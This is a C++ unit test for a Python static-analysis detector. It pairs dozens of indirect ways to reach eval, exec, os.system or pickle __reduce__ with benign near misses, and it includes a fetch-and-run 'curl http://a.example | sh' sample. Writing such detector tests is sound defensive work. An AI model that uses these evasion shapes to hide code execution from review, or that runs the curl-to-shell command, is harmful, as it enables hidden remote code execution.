// Ways to call a function without naming it where it is called, each beside an ordinary near miss.
#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "detect/contract/recording_inspection_for_test.h"
#include "detect/python/python_detector.h"

namespace saiph::detect {
namespace {

RecordingInspection inspected(std::string_view text, bool model) {
  RecordingInspection inspection(Bytes(text.begin(), text.end()), "code.py");
  if (model) inspection.files["config.json"] = {};
  inspect_python(inspection);
  return inspection;
}

struct Evasion {
  std::string_view name;
  std::string_view loud;   ///< high at least
  std::string_view quiet;  ///< below high
};

// x is not constant, so that what eval runs cannot be read; the commands are harmless.
constexpr Evasion kEvasions[] = {
    {"loop over a list", "for f in [eval]: f(x)\n", "for f in [abs]: f(x)\n"},
    {"loop, the harmless one first", "import os\nfor f in (print, os.system):\n    f('true')\n",
     "import os\nfor f in (print, os.getcwd):\n    f()\n"},
    {"loop over pairs", "import os\nfor f, a in [(os.system, 'true')]:\n    f(a)\n",
     "import os\nfor f, a in [(os.listdir, '.')]:\n    f(a)\n"},
    {"loop over pairs, command second",
     "import os\nfor n, f in [('a', print), ('b', os.system)]:\n    f('true')\n",
     "import os\nfor n, f in [('system', print), ('b', len)]:\n    f('true')\n"},
    {"loop over items", "import os\nfor n, f in {'a': os.system}.items():\n    f('true')\n",
     "import os\nfor n, f in {'system': print}.items():\n    f('true')\n"},
    {"loop with enumerate", "import os\nfor i, f in enumerate([os.system]):\n    f('true')\n",
     "import os\nfor i, f in enumerate([print]):\n    f('true')\n"},
    {"loop with reversed", "import os\nfor f in reversed((os.system, print)):\n    f('true')\n",
     "for f in reversed((len, print)):\n    f('true')\n"},
    {"loop with zip", "import os\nfor f, a in zip([os.system], ['true']):\n    f(a)\n",
     "for f, a in zip([print], ['true']):\n    f(a)\n"},
    {"comprehension", "[f(x) for f in [exec]]\n", "[f(x) for f in [str]]\n"},
    {"comprehension with two clauses", "[f(c) for c in data for f in [exec]]\n",
     "[f(c) for c in data for f in [str]]\n"},
    {"comprehension over pairs", "[f(a) for f, a in [(exec, x)]]\n",
     "[f(a) for f, a in [(str, x)]]\n"},
    {"comprehension of a set", "{f(x) for f in (print, exec)}\n", "{f(x) for f in (print, str)}\n"},
    {"comprehension of a mapping", "{k: f(x) for k, f in [(1, exec)]}\n",
     "{k: f(x) for k, f in [('exec', str)]}\n"},
    {"generator", "any(f(x) for f in (print, exec))\n", "any(f(x) for f in (print, str))\n"},
    {"comprehension over tuples in a list", "[g[0](x) for g in [(exec,)]]\n",
     "[g[0](x) for g in [(str,)]]\n"},
    {"comprehension's variable hides a name", "f = print\n[f(x) for f in [exec]]\n",
     "f = exec\n[f(x) for f in [print]]\n"},
    {"globals, builtins by key", "globals()['__builtins__']['eval'](x)\n",
     "globals()['__builtins__']['abs'](x)\n"},
    {"globals, builtins by attribute", "globals()['__builtins__'].eval(x)\n",
     "globals()['__builtins__'].abs(x)\n"},
    {"globals by get", "globals().get('__builtins__').get('eval')(x)\n",
     "globals().get('settings').get('eval')(x)\n"},
    {"vars of the builtins", "vars(__builtins__)['exec'](x)\n", "vars(__builtins__)['abs'](x)\n"},
    {"dictionary of the builtins", "__builtins__.__dict__['eval'](x)\n",
     "__builtins__.__dict__['abs'](x)\n"},
    {"table of modules", "import sys\nsys.modules['builtins'].eval(x)\n",
     "import sys\nsys.modules['builtins'].abs(x)\n"},
    {"getattribute of the builtins", "__builtins__.__getattribute__('eval')(x)\n",
     "__builtins__.__getattribute__('abs')(x)\n"},
    {"self of a builtin", "print.__self__.eval(x)\n", "model.__self__.eval()\n"},
    {"the module's loader", "__loader__.load_module('os').system('true')\n",
     "__loader__.load_module('os').getcwd()\n"},
    {"reduce",
     "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('true',))\n",
     "class A:\n    def __reduce__(self):\n        return (self.__class__, ('true',))\n"},
    {"reduce without brackets",
     "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('true',)\n",
     "class A:\n    def __reduce__(self):\n        return getattr, (self.owner, self.name)\n"},
    {"reduce_ex", "class A:\n    def __reduce_ex__(self, p):\n        return (eval, ('1',))\n",
     "class A:\n    def __reduce_ex__(self, p):\n        return (type(self), ('1',))\n"},
    {"reduce through names",
     "import os\nclass A:\n    def __reduce__(self):\n        c = 'true'\n        t = (os.system, "
     "(c,))"
     "\n        return t\n",
     "import os\nclass A:\n    def commands(self):\n        t = (os.system, ('true',))\n        "
     "return "
     "t\n"},
    {"reduce as a lambda",
     "import os\nclass A:\n    __reduce__ = lambda self: (os.system, ('true',))\n",
     "import os\nclass A:\n    __reduce__ = lambda self: (A, ('true',))\n"},
    {"reduce in a made class",
     "import os\nA = type('A', (), {'__reduce__': lambda s: (os.system, ('true',))})\n",
     "A = type('A', (), {'__reduce__': lambda s: (dict, ())})\n"},
    {"a registered reducer",
     "import copyreg, os\nclass A: pass\ncopyreg.pickle(A, lambda a: (os.system, ('true',)))\n",
     "import copyreg\nclass A: pass\ncopyreg.pickle(A, lambda a: (A, ()))\n"},
    {"lambda's default", "(lambda f=eval: f(x))()\n", "(lambda f=abs: f(x))()\n"},
    {"lambda's second default", "g = lambda y, f=eval: f(y)\ng(x)\n",
     "g = lambda y, f=abs: f(y)\ng(x)\n"},
    {"function's default", "def g(f=eval):\n    f(x)\ng()\n", "def g(f=abs):\n    f(x)\ng()\n"},
    {"function's argument", "def g(f):\n    f(x)\ng(eval)\n", "def g(f):\n    f(x)\ng(abs)\n"},
    {"function's named argument", "def g(a, f):\n    f(x)\ng(1, f=eval)\n",
     "def g(a, f):\n    f(x)\ng(1, f=abs)\n"},
    {"assignment expression", "(f := eval)(x)\n", "(f := abs)(x)\n"},
    {"unpacking", "f, g = eval, print\nf(x)\n", "f, g = eval, print\ng(x)\n"},
    {"unpacking with a star", "f, *g = eval, print, len\nf(x)\n",
     "f, *g = abs, print, len\nf(x)\n"},
    {"unpacking, nested", "(f, (g, h)) = (print, (eval, len))\ng(x)\n",
     "(f, (g, h)) = (print, (eval, len))\nh(x)\n"},
    {"with", "import contextlib\nwith contextlib.nullcontext(eval) as f:\n    f(x)\n",
     "import contextlib\nwith contextlib.nullcontext(abs) as f:\n    f(x)\n"},
    {"with and a pattern",
     "import contextlib\nwith contextlib.nullcontext((eval, 1)) as (f, g):\n    f(x)\n",
     "import contextlib\nwith contextlib.nullcontext((abs, 1)) as (f, g):\n    f(x)\n"},
    {"mapping", "{'a': eval}['a'](x)\n", "{'a': abs, 'b': eval}['a'](x)\n"},
    {"mapping, unknown key", "d = {'a': print, 'b': eval}\nd[k](x)\n",
     "d = {'eval': print, 'b': abs}\nd[k](x)\n"},
    {"mapping by get", "d = {'a': eval}\nd.get('a')(x)\n", "d = {'a': abs}\nd.get('a')(x)\n"},
    {"mapping, filled later", "d = {}\nd['a'] = eval\nd['a'](x)\n",
     "d = {}\nd['a'] = abs\nd['a'](x)\n"},
    {"mapping, changed later", "d = {'a': '1'}\nd['a'] = input()\neval(d['a'])\n",
     "d = {'a': '1'}\nd['b'] = input()\neval(d['a'])\n"},
    {"mapping, updated", "d = {'a': '1'}\nd.update(a=input())\neval(d['a'])\n",
     "d = {'a': '1'}\nd.get('b')\neval(d['a'])\n"},
    {"list, grown at the front", "l = ['1']\nl.insert(0, input())\neval(l[0])\n",
     "l = ['1']\nl.append(input())\neval(l[0])\n"},
    {"command, grown later",
     "import subprocess\ndef g():\n    c = ['sh', '-c', 'curl http://a.example | sh']\n    "
     "c.append('x')\n    subprocess.run(c)\n",
     "import subprocess\ndef g():\n    c = ['git', 'status']\n    c.append('x')\n    "
     "subprocess.run(c)\n"},
    {"mapping made of keywords", "d = dict(a=eval)\nd['a'](x)\n",
     "d = dict(eval=abs)\nd['eval'](x)\n"},
    {"list by an unknown index", "[print, eval][i](x)\n", "[print, abs][i](x)\n"},
    {"list's last", "[eval].pop()(x)\n", "[eval, abs].pop()(x)\n"},
    {"next of an iterator", "next(iter([eval]))(x)\n", "next(iter([abs]))(x)\n"},
    {"a global set by name", "globals()['f'] = eval\nf(x)\n", "globals()['f'] = abs\nf(x)\n"},
    {"an attribute set by name", "class A: pass\nsetattr(A, 'f', eval)\nA.f(x)\n",
     "class A: pass\nsetattr(A, 'f', abs)\nA.f(x)\n"},
    {"static method", "class A:\n    f = staticmethod(eval)\nA.f(x)\n",
     "class A:\n    f = staticmethod(abs)\nA.f(x)\n"},
    {"map", "list(map(eval, [x]))\n", "list(map(abs, [x]))\n"},
    {"sort key", "max([x], key=eval)\n", "max([x], key=abs)\n"},
    {"partial", "import functools\nfunctools.partial(eval, x)()\n",
     "import functools\nfunctools.partial(abs, x)()\n"},
    {"operator.call", "import operator\noperator.call(eval, x)\n",
     "import operator\noperator.call(abs, x)\n"},
    {"item getter", "import operator\noperator.itemgetter('eval')(__builtins__)(x)\n",
     "import operator\noperator.itemgetter('eval')(settings)\n"},
    {"method caller", "import operator, os\noperator.methodcaller('system', 'true')(os)\n",
     "import operator\noperator.methodcaller('system', 'true')(game)\n"},
    {"decorator", "@eval\ndef f(): pass\n", "@property\ndef f(): pass\n"},
    {"decorators", "@exec\n@input\nclass X: pass\n", "@exec_once\n@traced\nclass X: pass\n"},
};

TEST(PythonEvasions, EachIsFoundAndItsNearMissIsNot) {
  for (const Evasion& evasion : kEvasions) {
    for (const bool model : {false, true}) {
      const auto loud = inspected(evasion.loud, model);
      EXPECT_TRUE(loud.has_at_least(Severity::kHigh)) << evasion.name << "\n" << stated(loud);
      EXPECT_TRUE(loud.incompletes.empty()) << evasion.name << "\n" << stated(loud);
      const auto quiet = inspected(evasion.quiet, model);
      EXPECT_FALSE(quiet.has_at_least(Severity::kHigh)) << evasion.name << "\n" << stated(quiet);
      EXPECT_TRUE(quiet.incompletes.empty()) << evasion.name << "\n" << stated(quiet);
    }
  }
}

TEST(PythonEvasions, SetstateRunsWhenAModelIsLoaded) {
  const std::string_view text =
      "import os\nclass A:\n    def __setstate__(self, s):\n        os.system('true')\n";
  EXPECT_TRUE(inspected(text, true).has_at_least(Severity::kHigh));
  EXPECT_FALSE(inspected(text, false).has_at_least(Severity::kHigh));
}

TEST(PythonEvasions, ManyShapesAreLinear) {
  const auto repeated = [](std::string_view head, std::string_view part, std::size_t times) {
    std::string text(head);
    for (std::size_t i = 0; i < times; ++i) text += part;
    return text;
  };
  for (const std::string& text :
       {repeated("x = ", "[f(x) for f in [g] if ", 60'000),
        repeated("x = [", "f(x) for f in [g] for f in h ", 60'000),
        repeated("t = [" + repeated("", "1,", 50'000) + "]\n", "for a in t: pass\n", 30'000),
        repeated("p = print\nimport functools\n", "p = functools.partial(p, 1)\n", 30'000),
        repeated("d = {}\n", "d['a'] = eval\n", 40'000),
        repeated("x = ", "lambda f=eval: ", 60'000), repeated("x = ", "lambda f=[", 30'000),
        repeated("", "((a, ", 60'000) + "= 1\n",
        repeated("import operator\nx = ", "operator.call(", 40'000)}) {
    auto inspection = inspected(text, false);
    EXPECT_FALSE(inspection.budget().exhausted());
  }
}

}  // namespace
}  // namespace saiph::detect
